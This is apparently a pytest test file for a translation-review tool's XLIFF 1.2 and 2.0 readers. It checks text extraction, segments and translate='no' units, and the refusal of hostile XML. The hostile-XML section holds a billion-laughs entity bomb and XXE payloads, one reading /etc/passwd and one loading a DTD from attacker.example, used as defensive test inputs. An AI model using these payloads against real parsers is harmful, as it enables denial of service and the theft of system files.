"""XLIFF 1.2 (WPML) and 2.0 readers, and refusal of hostile or malformed XML."""

from __future__ import annotations

from pathlib import Path

import pytest

from mt_review.errors import InputError
from mt_review.ingest import read_file
from mt_review.ingest.xliff import parse_xliff
from mt_review.model import BlockKind, PagePair

FIX = Path(__file__).resolve().parent / "fixtures" / "ingest"


def write(tmp_path: Path, name: str, content: str) -> Path:
    p = tmp_path / name
    p.write_text(content, encoding="utf-8")
    return p


# --------------------------------------------------------------------------- WPML XLIFF 1.2


def test_wpml_xliff_12_with_html_in_cdata():
    pair = read_file(FIX / "wpml-nlc-workshop.xliff")
    assert isinstance(pair, PagePair) and pair.prealigned
    assert pair.name == "wpml-nlc-workshop"
    src, tgt = pair.source, pair.target
    assert src.format == tgt.format == "xliff"
    assert (src.declared_lang, tgt.declared_lang) == ("en", "ar")
    assert (src.lang, tgt.lang) == ("en", "ar")
    ids = ["title", "body", "7a1b2c3d4e5f60718293a4b5c6d7e8f9", "excerpt"]
    assert [b.unit_id for b in src.blocks] == ids
    assert [b.unit_id for b in tgt.blocks] == ids
    assert src.title.startswith("Enhancing National-Local Coordination on Prevention")
    assert tgt.title.startswith("تعزيز التنسيق الوطني")
    # HTML inside CDATA is stripped to text, paragraphs become lines, &nbsp; decoded
    body = src.blocks[1].text
    assert "<p>" not in body and "<strong>" not in body
    assert body == (
        "Strong Cities worked with IIJ in Surabaya, Indonesia, to co-host a workshop on enhancing "
        "national-local coordination.\nThe workshop brought together national and local government "
        "officials\u00a0from Malaysia, the Philippines and Indonesia."
    )
    assert tgt.blocks[1].text.startswith("تعاونت المدن القوية مع IIJ في سورابايا")
    assert [b.kind for b in src.blocks] == [
        BlockKind.HEADING,  # resname="title"
        BlockKind.PARAGRAPH,
        BlockKind.HEADING,  # <h3> in CDATA
        BlockKind.PARAGRAPH,
    ]
    # untranslated unit (no <target>): empty target block with the same id
    assert tgt.blocks[3].text == "" and tgt.blocks[3].unit_id == "excerpt"
    assert src.blocks[0].line == 16 and tgt.blocks[0].line == 17


def test_wpml_xliff_units_keep_state_notes_and_lines():
    text = (FIX / "wpml-nlc-workshop.xliff").read_text(encoding="utf-8")
    doc = parse_xliff(text, "wpml.xliff")
    assert doc.version == "1.2"
    assert doc.original == "6d3f2a1c9b8e7d6c5b4a39281706f5e4-post-4127"
    body = doc.units[1]
    assert (body.raw_id, body.resname, body.state) == ("body", "body", "needs-review-translation")
    assert body.notes == ("Translated automatically",)
    assert body.line == 19 and body.source_line == 20 and body.target_line == 22
    assert doc.untranslated == ("excerpt",)
    assert doc.units[3].has_target is False


def test_xliff_12_inline_codes_and_groups(tmp_path):
    x = """<?xml version="1.0"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
 <file original="a.html" source-language="en-US" target-language="ar-SA" datatype="html">
  <body>
   <group id="g1">
    <trans-unit id="1">
     <source>Click <g id="1">here</g><x id="2"/> for <bpt id="3">&lt;b&gt;</bpt>more<ept id="3">&lt;/b&gt;</ept>.</source>
     <target state="translated">انقر <g id="1">هنا</g><x id="2"/> <bpt id="3">&lt;b&gt;</bpt>للمزيد<ept id="3">&lt;/b&gt;</ept>.</target>
    </trans-unit>
   </group>
   <trans-unit id="2"><source>Empty target</source><target/></trans-unit>
  </body>
 </file>
</xliff>"""
    pair = read_file(write(tmp_path, "inline.xlf", x))
    assert pair.source.blocks[0].text == "Click here for more."
    assert pair.target.blocks[0].text == "انقر هنا للمزيد."
    assert pair.target.blocks[1].text == "" and pair.target.blocks[1].unit_id == "2"
    assert pair.target.declared_lang == "ar-SA"


def test_xliff_12_multiple_files_prefix_unit_ids(tmp_path):
    x = """<xliff version="1.2"><file original="a" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>Hello world</source><target>مرحبا بالعالم</target></trans-unit></body></file>
<file original="b" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>Goodbye</source><target>وداعا</target></trans-unit></body></file></xliff>"""
    pair = read_file(write(tmp_path, "multi.xliff", x))
    assert [b.unit_id for b in pair.source.blocks] == ["a#1", "b#1"]


# --------------------------------------------------------------------------- XLIFF 2.0


def test_xliff_20_fixture():
    pair = read_file(FIX / "nlc-workshop.xlf")
    assert isinstance(pair, PagePair) and pair.prealigned
    src, tgt = pair.source, pair.target
    assert (src.declared_lang, tgt.declared_lang) == ("en", "ar")
    assert [b.unit_id for b in src.blocks] == ["u-title", "u-body", "u-empty"]
    assert [b.unit_id for b in tgt.blocks] == ["u-title", "u-body", "u-empty"]
    # segments and ignorables of a unit are one block; <pc> text kept, <ph/> dropped
    assert src.blocks[1].text == "Strong Cities worked with IIJ in Surabaya. The workshop lasted three days."
    assert tgt.blocks[1].text == "تعاونت المدن القوية مع IIJ في سورابايا. استمرت ورشة العمل ثلاثة أيام."
    assert src.blocks[0].kind is BlockKind.HEADING  # name="title"
    assert tgt.blocks[2].text == ""
    doc = parse_xliff((FIX / "nlc-workshop.xlf").read_text(encoding="utf-8"), "x.xlf")
    assert doc.version == "2.0"
    assert doc.units[1].notes == ("Keep the acronym IIJ.",)
    assert doc.units[1].state == "translated,initial"
    assert doc.untranslated == ("u-empty",)


def test_xliff_21_cp_element(tmp_path):
    x = """<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="ar">
<file id="f"><unit id="1"><segment><source>Tab<cp hex="0009"/>stop and RLM<cp hex="200F"/></source>
<target>علامة<cp hex="200F"/></target></segment></unit></file></xliff>"""
    pair = read_file(write(tmp_path, "cp.xlf", x))
    assert pair.source.blocks[0].text == "Tab\tstop and RLM\u200f"
    assert pair.target.blocks[0].text == "علامة\u200f"  # bidi mark kept, never dropped


# --------------------------------------------------------------------------- hostile XML


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xliff [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xliff version="1.2"><file original="x" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>&lol9;</source><target>&lol9;</target></trans-unit>
</body></file></xliff>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE xliff [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<xliff version="1.2"><file original="x" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>&xxe;</source><target>x</target></trans-unit>
</body></file></xliff>"""

XXE_PARAM = """<?xml version="1.0"?>
<!DOCTYPE xliff [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<xliff version="1.2"><file original="x" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>a</source><target>b</target></trans-unit></body></file></xliff>"""


def test_billion_laughs_is_refused(tmp_path):
    p = write(tmp_path, "bomb.xliff", BILLION_LAUGHS)
    with pytest.raises(InputError) as exc:
        read_file(p)
    msg = str(exc.value)
    assert "billion laughs" in msg and str(p) in msg


@pytest.mark.parametrize("doc", [XXE, XXE_PARAM], ids=["general-entity", "parameter-entity"])
def test_external_entities_are_refused(tmp_path, doc):
    p = write(tmp_path, "xxe.xliff", doc)
    with pytest.raises(InputError, match="XXE") as exc:
        read_file(p)
    assert "root:" not in str(exc.value)


def test_malformed_xml_reports_line_and_column(tmp_path):
    x = """<?xml version="1.0"?>
<xliff version="1.2"><file original="x" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>Hello</source><target>مرحبا</target></trans-unit>
<trans-unit id="2"><source>Broken</sauce></trans-unit>
</body></file></xliff>"""
    with pytest.raises(InputError, match=r"malformed XML at line 4, column 36: mismatched tag"):
        read_file(write(tmp_path, "bad.xliff", x))


def test_xml_that_is_not_xliff(tmp_path):
    with pytest.raises(InputError, match=r"XML root is <resources>, not <xliff>"):
        read_file(write(tmp_path, "strings.xliff", '<?xml version="1.0"?><resources><string>x</string></resources>'))


def test_xliff_without_units(tmp_path):
    with pytest.raises(InputError, match="no translation units"):
        read_file(write(tmp_path, "none.xliff", '<xliff version="1.2"><file original="x"><body/></file></xliff>'))


def test_xliff_duplicate_unit_ids(tmp_path):
    x = """<xliff version="1.2"><file original="x"><body>
<trans-unit id="1"><source>a</source></trans-unit>
<trans-unit id="1"><source>b</source></trans-unit></body></file></xliff>"""
    with pytest.raises(InputError, match=r"duplicate unit id '1' at line 3 \(first at line 2\)"):
        read_file(write(tmp_path, "dup.xliff", x))


def test_xliff_with_stale_encoding_declaration(tmp_path):
    # the bytes are UTF-8 with a BOM; the declaration's "UTF-16" must not be obeyed again
    x = '<?xml version="1.0" encoding="UTF-16"?>\n<xliff version="1.2"><file original="x" source-language="en" target-language="ar"><body><trans-unit id="1"><source>Hello</source><target>مرحبا</target></trans-unit></body></file></xliff>'
    p = tmp_path / "enc.xliff"
    p.write_bytes(b"\xef\xbb\xbf" + x.encode("utf-8"))
    pair = read_file(p)
    assert pair.target.blocks[0].text == "مرحبا"
    assert pair.source.encoding == "utf-8-sig"


# --------------------------------------------------------------------------- translate="no", segments


def test_xliff_12_translate_no_units_are_not_reviewed(tmp_path):
    x = """<?xml version="1.0" encoding="UTF-8"?>
<xliff version="1.2"><file original="p" source-language="en" target-language="ar"><body>
<trans-unit id="1"><source>Strong Cities worked with IIJ.</source><target>تعاونت المدن القوية مع IIJ.</target></trans-unit>
<trans-unit id="2" translate="no"><source>Strong Cities Network</source><target>Strong Cities Network</target></trans-unit>
<group id="g" translate="no"><trans-unit id="3"><source>SCN-2024</source></trans-unit></group>
<group id="h"><trans-unit id="4" translate="yes"><source>Yes.</source><target>نعم.</target></trans-unit></group>
</body></file></xliff>"""
    pair = read_file(write(tmp_path, "tn.xlf", x))
    assert [b.unit_id for b in pair.source.blocks] == ["1", "4"]
    assert [b.unit_id for b in pair.target.blocks] == ["1", "4"]
    assert parse_xliff(x, "tn.xlf").untranslated == ()


def test_xliff_20_translate_no_on_unit_and_segment(tmp_path):
    x = """<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="ar">
<file id="f">
<unit id="brand" translate="no"><segment><source>Strong Cities Network</source></segment></unit>
<unit id="mixed">
  <segment><source>The workshop lasted three days.</source><target>استمرت ورشة العمل ثلاثة أيام.</target></segment>
  <ignorable><source> </source></ignorable>
  <segment translate="no"><source>SCN-2024-07</source><target>SCN-2024-07</target></segment>
</unit>
<unit id="code"><segment translate="no"><source>npm run build</source></segment></unit>
</file></xliff>"""
    pair = read_file(write(tmp_path, "tn2.xlf", x))
    assert [b.unit_id for b in pair.source.blocks] == ["mixed"]
    assert pair.source.blocks[0].text == "The workshop lasted three days."
    assert pair.target.blocks[0].text == "استمرت ورشة العمل ثلاثة أيام."


def test_xliff_all_units_translate_no_is_refused(tmp_path):
    x = """<xliff version="1.2"><file original="p" source-language="en" target-language="ar"><body>
<trans-unit id="1" translate="no"><source>Brand</source></trans-unit></body></file></xliff>"""
    with pytest.raises(InputError, match=r'no\.xlf: XLIFF has no units to translate: all 1 are marked translate="no"'):
        read_file(write(tmp_path, "no.xlf", x))


def test_xliff_20_segments_are_joined_with_a_space(tmp_path):
    x = """<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="ar">
<file id="f"><unit id="u1">
<segment><source>The workshop starts on Monday.</source><target>تبدأ ورشة العمل يوم الاثنين.</target></segment><segment><source>Second segment here.</source><target>المقطع الثاني هنا.</target></segment>
</unit><unit id="u2">
<segment><source>Kept as is. </source><target>كما هو. </target></segment><ignorable><source>
</source></ignorable><segment><source>Next.</source><target>التالي.</target></segment>
</unit></file></xliff>"""
    pair = read_file(write(tmp_path, "seg.xlf", x))
    assert pair.source.blocks[0].text == "The workshop starts on Monday. Second segment here."
    assert pair.target.blocks[0].text == "تبدأ ورشة العمل يوم الاثنين. المقطع الثاني هنا."
    # the whitespace the segments had is kept, none added
    assert pair.source.blocks[1].text == "Kept as is. \nNext."
    assert pair.target.blocks[1].text == "كما هو. \nالتالي."
